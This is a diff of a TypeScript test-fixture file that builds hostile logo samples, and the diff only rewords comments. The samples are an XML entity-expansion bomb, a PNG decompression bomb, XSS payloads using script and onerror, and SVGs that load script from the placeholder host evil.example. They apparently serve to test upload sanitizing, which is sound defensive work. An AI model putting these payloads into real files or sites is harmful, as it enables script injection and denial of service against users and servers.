@@ -3,7 +3,7 @@ import { crc32, deflateSync } from 'node:zlib'
 const svg = (inside: string, more = '') =>
   `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 48 48" ${more}>${inside}</svg>`
 
-/** A billion of anything, if each were written out. */
+/** An entity expansion bomb of a billion items. */
 const bomb = `<!DOCTYPE svg [<!ENTITY a "boom">${'bcdefghij'
   .split('')
   .map((name, i) => `<!ENTITY ${name} "${`&${'abcdefghi'[i]};`.repeat(10)}">`)
@@ -18,7 +18,7 @@ const chunk = (type: string, data: Buffer): Buffer => {
   return framed
 }
 
-/** A picture of 50 million points in a few thousand bytes. */
+/** An image of 50 million pixels in a few thousand bytes. */
 function hugePng(): Buffer {
   const [width, height] = [7200, 7200]
   const header = Buffer.alloc(13)
@@ -32,7 +32,7 @@ function hugePng(): Buffer {
 
 const html = '<!doctype html><script>boom(1)</script><img src=x onerror=boom(1)><base href=//evil.example/>'
 
-/** Pictures that would like to be programs, and programs that call themselves pictures. */
+/** Images with active content, and active content that claims to be an image. */
 export const hostileLogos: Readonly<Record<string, { readonly type: string; readonly body: string | Buffer }>> = {
   'a script': { type: 'image/svg+xml', body: svg('<script>boom(1)</script>') },
   'a script of a stranger': { type: 'image/svg+xml', body: svg('<script xlink:href="//evil.example/x.js"/>') },
